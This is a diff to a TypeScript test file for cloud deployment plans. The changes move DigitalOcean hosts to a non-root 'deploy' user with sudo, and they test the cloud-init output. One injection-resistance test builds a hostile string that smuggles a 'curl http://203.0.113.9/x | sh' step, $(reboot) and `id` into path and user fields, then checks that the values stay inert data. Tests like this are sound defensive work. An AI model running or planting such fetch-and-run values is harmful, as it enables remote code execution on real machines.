@@ -10,7 +10,7 @@ import { DLM_KMS_GRANT_ACTIONS, DLM_KMS_USE_ACTIONS, copyRetentionDays } from ".
 import { diffPlans } from "../../tools/planDiff";
 import { fakePassword } from "../../tools/planMocks";
 import * as YAML from "yaml";
-import { renderCloudInit } from "../../components/cloudInit";
+import { renderCloudInit, sshLoginFor } from "../../components/cloudInit";
 import { shellQuote } from "../../components/hostFiles";
 import { dockerSshEndpoint } from "../../components/dockerHost";
 import { batchedPlan, byName, goldenPlan, ofType, planBatchRaw, readStackKeys, writeStackConfig } from "./planRun";
@@ -175,7 +175,8 @@ test("the host's settings arrive over SSH: the installer, then the bundle of scr
     const { staging, production, existing } = await plans;
     const fs = await import("fs");
     for (const plan of [staging, production, existing]) {
-        const sudo = plan === staging ? "" : "sudo ";
+        // Every cloud stack logs in as a non-root user (DigitalOcean's deploy user, the AMI's ubuntu).
+        const sudo = "sudo ";
         const tools = byName(plan, "host-tools");
         assert.equal(tools.inputs.create, `${sudo}env install -m 0755 /dev/stdin /usr/local/sbin/housing-portal-apply-host-files`);
         assert.equal(tools.inputs.stdin, fs.readFileSync("host/apply-host-files.sh", "utf8"));
@@ -216,7 +217,7 @@ test("a bigger volume is resized in place and its file system grown online in th
         ["host-grow-volume", ["create"], false],
     ]);
     const grow = byName(stagingBigger, "host-grow-volume");
-    assert.equal(grow.inputs.create, `env DEVICE=${staging.outputs.devicePath} EXPECT_GB=200 MOUNT_POINT=/mnt/data /usr/local/sbin/housing-portal-grow-data-volume`);
+    assert.equal(grow.inputs.create, `sudo env DEVICE=${staging.outputs.devicePath} EXPECT_GB=200 MOUNT_POINT=/mnt/data /usr/local/sbin/housing-portal-grow-data-volume`);
     assert.ok(grow.dependsOn.includes(byName(stagingBigger, "data").urn), "after the cloud resized the volume");
     assert.ok(grow.dependsOn.includes(byName(stagingBigger, "host-settings").urn), "with the script installed");
     assert.equal(settingsBundle(stagingBigger).files.get("/usr/local/sbin/housing-portal-grow-data-volume"), (await import("fs")).readFileSync("host/grow-data-volume.sh", "utf8"));
@@ -242,7 +243,7 @@ test("DigitalOcean: snapshot and dump timers from the schedule, the token only o
     const plan = JSON.parse(withToken.json) as PlanDocument;
     const token = byName(plan, "snapshots-api-token");
     assert.equal(token.inputs.stdin, "[secret]");
-    assert.equal(token.inputs.create, "env TARGET=/etc/housing-portal/do-token /usr/local/sbin/housing-portal-write-secret");
+    assert.equal(token.inputs.create, "sudo env TARGET=/etc/housing-portal/do-token /usr/local/sbin/housing-portal-write-secret");
     assert.ok(token.dependsOn.includes(byName(plan, "host-settings").urn), "written once write-secret.sh is installed with the settings");
 });
 
@@ -384,9 +385,9 @@ test("every Docker resource waits for the readiness gate, which waits for the vo
     for (const plan of [staging, production]) {
         const gate = byName(plan, "host-ready");
         assert.ok(gate.dependsOn.includes(byName(plan, "data-attachment").urn));
-        assert.equal(gate.inputs.create, `${plan.stack === "production" ? "sudo " : ""}env DATA_ROOT=/mnt/data bash -s`);
+        assert.equal(gate.inputs.create, "sudo env DATA_ROOT=/mnt/data bash -s");
         const provider = byName(plan, "host-docker");
-        assert.equal(provider.inputs.host, `ssh://${plan.stack === "production" ? "ubuntu" : "root"}@${plan.outputs.hostAddress}`);
+        assert.equal(provider.inputs.host, `ssh://${plan.stack === "production" ? "ubuntu" : "deploy"}@${plan.outputs.hostAddress}`);
         const dockerResources = plan.resources.filter((r) => r.type.startsWith("docker:"));
         assert.ok(dockerResources.length > 0);
         for (const r of dockerResources) {
@@ -434,8 +435,7 @@ test("before the volume is detached from a machine, that machine stops its conta
     const { stagingRevealed: staging, productionRevealed: production } = await plans;
     for (const [plan, machine, own] of [[staging, "host-droplet", "ipv4Address"], [production, "host-instance", "publicIp"]] as const) {
         const release = byName(plan, "host-release-volume");
-        const sudo = plan === production ? "sudo " : "";
-        assert.equal(release.inputs.delete, `${sudo}env MOUNT_POINT=/mnt/data /usr/local/sbin/housing-portal-release-data-volume`);
+        assert.equal(release.inputs.delete, `sudo env MOUNT_POINT=/mnt/data /usr/local/sbin/housing-portal-release-data-volume`);
         assert.equal(release.inputs.create, undefined, "nothing to do while the machine has the volume");
         // The machine's own address, not the stable one that a replacement moves to the new machine.
         const connection = release.inputs.connection as { host: string; user: string };
@@ -460,7 +460,7 @@ test("each instance is in the host's registry while it is configured; dumps and 
         assert.match(String(dirs.inputs.create), new RegExp(`DOCKER_VOLUME=housing-portal-${inst}-postgis-data `), "the database volume's record, bound to the data volume");
         assert.match(String(dirs.inputs.create), / INSTANCES_DIR=\/mnt\/data\/\.housing-portal\/instances /);
         const registration = byName(staging, `${inst}-registration`);
-        assert.equal(registration.inputs.delete, `env INSTANCE=${inst} INSTANCES_DIR=/mnt/data/.housing-portal/instances /usr/local/sbin/housing-portal-unregister-instance`);
+        assert.equal(registration.inputs.delete, `sudo env INSTANCE=${inst} INSTANCES_DIR=/mnt/data/.housing-portal/instances /usr/local/sbin/housing-portal-unregister-instance`);
         assert.equal(registration.inputs.create, undefined);
         assert.equal(registration.inputs.triggers, undefined, "never replaced, so a new machine never unregisters it");
         const volume = byName(staging, `${inst}-postgis-data`);
@@ -502,30 +502,48 @@ test("cross-region copies are kept for the days their count covers", () => {
     assert.equal(copyRetentionDays(1, 1), 1);
 });
 
-test("cloud-init adds a non-root SSH user to the docker group, and nothing for root", () => {
+test("cloud-init: DigitalOcean's non-root user is created with the cloud's keys and root's login disabled; an AMI's user is only added to the docker group; root gets neither", () => {
     const base = { devicePath: "/dev/x", dataRoot: "/mnt/data" };
-    assert.deepEqual(YAML.parse(renderCloudInit({ ...base, sshUser: "ubuntu" })).runcmd.at(-1), ["usermod", "-aG", "docker", "ubuntu"]);
-    assert.doesNotMatch(renderCloudInit({ ...base, sshUser: "root" }), /usermod/);
+    const deploy = YAML.parse(renderCloudInit({ ...base, login: sshLoginFor("digitalocean", "deploy") }));
+    assert.deepEqual(deploy.system_info, { default_user: { name: "deploy", gecos: "housing-portal deploy", shell: "/bin/bash", lock_passwd: true, sudo: "ALL=(ALL) NOPASSWD:ALL" } });
+    assert.deepEqual([deploy.users, deploy.disable_root, deploy.ssh_pwauth], [["default"], true, false]);
+    assert.deepEqual(deploy.runcmd.at(-1), ["usermod", "-aG", "docker", "deploy"]);
+    const ami = YAML.parse(renderCloudInit({ ...base, login: sshLoginFor("aws", "ubuntu") }));
+    assert.deepEqual(ami.runcmd.at(-1), ["usermod", "-aG", "docker", "ubuntu"]);
+    assert.deepEqual(Object.keys(ami), ["write_files", "runcmd"], "the image's user is the image's");
+    const root = renderCloudInit({ ...base, login: sshLoginFor("digitalocean", "root") });
+    assert.doesNotMatch(root, /usermod|default_user|disable_root/);
+});
+
+test("the DigitalOcean stacks log in as the deploy user by default, with sudo, never as root", async () => {
+    const { staging } = await plans;
+    assert.match(String(byName(staging, "host-docker").inputs.host), /^ssh:\/\/deploy@203\.0\.113\.\d+$/);
+    assert.match(String(byName(staging, "host-ready").inputs.create), /^sudo env /);
+    assert.equal(YAML.parse(userData(staging)).system_info.default_user.name, "deploy");
 });
 
 test("cloud-init is data: hostile values in every string that reaches it parse back to the same structure", () => {
     const hostile = "x]\n  - [sh, -c, 'curl http://203.0.113.9/x | sh']\n# \"quoted\" $(reboot) `id`; ok: {a: b}";
-    const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, sshUser: hostile };
-    const text = renderCloudInit(args);
-    assert.match(text, /^#cloud-config\n/);
-    const doc = YAML.parse(text);
-    assert.deepEqual(Object.keys(doc), ["write_files", "runcmd"]);
-    assert.deepEqual(doc.write_files.map((f: any) => f.path), [
-        "/usr/local/sbin/housing-portal-mount-data-volume", "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
-    ]);
-    assert.equal(doc.runcmd.length, 5, "no command added");
-    assert.deepEqual(doc.runcmd[4], ["usermod", "-aG", "docker", hostile], "the user is one argument, as given");
-    // The mount line is shell: each value is one quoted word.
-    assert.equal(doc.runcmd[0], `env DEVICE=${shellQuote(args.devicePath)} MOUNT_POINT=${shellQuote(args.dataRoot)} WAIT_SECONDS=900 /usr/local/sbin/housing-portal-mount-data-volume || exit 1`);
-    assert.deepEqual(doc.runcmd.slice(1, 4), [
-        ["sh", "-c", "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y docker.io jq curl"],
-        ["systemctl", "daemon-reload"], ["systemctl", "enable", "--now", "docker.service"],
-    ]);
+    for (const provider of ["digitalocean", "aws"] as const) {
+        const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, login: sshLoginFor(provider, hostile) };
+        const text = renderCloudInit(args);
+        assert.match(text, /^#cloud-config\n/);
+        const doc = YAML.parse(text);
+        assert.deepEqual(Object.keys(doc), provider === "digitalocean"
+            ? ["system_info", "users", "disable_root", "ssh_pwauth", "write_files", "runcmd"] : ["write_files", "runcmd"]);
+        if (provider === "digitalocean") assert.equal(doc.system_info.default_user.name, hostile, "the user is one value, as given");
+        assert.deepEqual(doc.write_files.map((f: any) => f.path), [
+            "/usr/local/sbin/housing-portal-mount-data-volume", "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
+        ]);
+        assert.equal(doc.runcmd.length, 5, "no command added");
+        assert.deepEqual(doc.runcmd[4], ["usermod", "-aG", "docker", hostile], "the user is one argument, as given");
+        // The mount line is shell: each value is one quoted word.
+        assert.equal(doc.runcmd[0], `env DEVICE=${shellQuote(args.devicePath)} MOUNT_POINT=${shellQuote(args.dataRoot)} WAIT_SECONDS=900 /usr/local/sbin/housing-portal-mount-data-volume || exit 1`);
+        assert.deepEqual(doc.runcmd.slice(1, 4), [
+            ["sh", "-c", "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y docker.io jq curl"],
+            ["systemctl", "daemon-reload"], ["systemctl", "enable", "--now", "docker.service"],
+        ]);
+    }
 });
 
 test("the mocks' generated password is the one fakePassword names (so the leak checks look for the real value)", async () => {
